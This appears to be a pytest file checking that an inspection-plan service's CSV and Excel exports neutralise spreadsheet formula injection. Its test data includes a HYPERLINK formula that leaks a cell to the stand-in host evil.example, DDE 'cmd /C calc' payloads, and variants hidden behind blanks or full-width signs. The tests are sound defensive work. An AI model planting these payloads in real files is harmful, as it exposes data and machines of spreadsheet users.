"""Spreadsheet formula injection: a subject named like a formula comes out as text in every CSV
and Excel download (OWASP CSV injection: = + - @, tab and CR neutralised)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from test_sec_plans import AS_OF, city  # noqa: F401  (fixture: the fire department's city)

from serving.db.tables import Subject

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _rename_everyone(session, names):
    subjects = session.query(Subject).order_by(Subject.uscc).all()
    for n, subject in enumerate(subjects):
        subject.name = names[n % len(names)]
    session.commit()


def test_plan_csv_and_xlsx_never_carry_a_live_formula(client, auth, session, city):  # noqa: F811
    _rename_everyone(session, FORMULAS)
    created = client.post("/api/v1/plans", headers=auth("reg_samr"), json={
        "plan_id": "-SUM.1", "period_start": "2026-11-01", "period_end": "2026-12-31", "as_of": AS_OF,
        "tasks": [{"department": "samr", "item": "SAMR-03"}]})
    assert created.status_code == 201, created.text
    plan_id = created.json()["id"]
    text = client.get(f"/api/v1/plans/{plan_id}/export.csv", headers=auth("reg_samr")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), cell
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)  # kept, as text

    book = openpyxl.load_workbook(io.BytesIO(
        client.get(f"/api/v1/plans/{plan_id}/export.xlsx", headers=auth("reg_samr")).content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), cell.value


def test_public_results_csv_is_neutralised(app, client, auth, session, city):  # noqa: F811
    import datetime as dt

    from serving.deps import get_today

    created = client.post("/api/v1/plans", headers=auth("reg_samr"), json={
        "plan_id": "q4", "period_start": "2026-11-01", "period_end": "2026-12-31", "as_of": AS_OF,
        "tasks": [{"department": "samr", "item": "SAMR-03"}]}).json()
    visit = client.get(f"/api/v1/plans/{created['id']}", headers=auth("reg_samr")).json()["visits"][0]
    session.query(Subject).filter(Subject.uscc == visit["uscc"]).update({"name": FORMULAS[0]})
    session.commit()
    app.dependency_overrides[get_today] = lambda: dt.date(2026, 12, 10)
    r = client.post(f"/api/v1/plans/{created['id']}/results", headers=auth("reg_samr"), json={"results": [
        {"uscc": visit["uscc"], "inspection_item": "SAMR-03", "inspected_on": "2026-12-01", "outcome": "corrected",
         "published_on": "2026-12-02", "document_no": "=1+1"}]})
    assert r.status_code == 200, r.text
    text = client.get(f"/api/v1/plans/{created['id']}/results.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not any(cell.startswith(DANGEROUS) for cell in cells), cells


@pytest.mark.parametrize("value", [*FORMULAS, "-", "=", "normal name", "", "12", "-5 (text)"])
def test_one_neutralisation_rule_for_every_cell(value):
    from supervision.export import neutralise_cell

    out = neutralise_cell(value)
    assert not str(out).startswith(DANGEROUS)
    if value.startswith(DANGEROUS):
        assert out == "'" + value
    else:
        assert out == value


def test_a_cell_with_a_line_break_stays_one_cell():
    import pandas as pd

    from supervision.export import csv_bytes

    frame = pd.DataFrame({"name": ["a\rb", "c\nd", "\r=1+1", "plain"], "n": [1, 2, 3, 4]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows == [["name", "n"], ["a\rb", "1"], ["c\nd", "2"], ["'\r=1+1", "3"], ["plain", "4"]]


@pytest.mark.parametrize("value", [" =1+1", "\u3000=cmd|' /C calc'!A0", "＝SUM(A1)", "\u200b=1+1", "\ufeff@SUM(A1)",
                                   "\u00a0+1", "  \u200d-2+3", "＋1", "＠A1", "－1"])
def test_a_formula_behind_blanks_or_full_width_signs_is_neutralised(value):
    """Issue 14 finding 10: leading whitespace, U+3000, zero-width characters or the full-width
    ＝＋－＠ in front of a formula sign escaped the rule."""
    from supervision.export import neutralise_cell

    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["  plain text", "\u3000张三", "－", "", "12"])
def test_blanks_before_plain_text_are_left_alone(value):
    from supervision.export import neutralise_cell

    assert neutralise_cell(value) == (value if value != "－" else "'－")
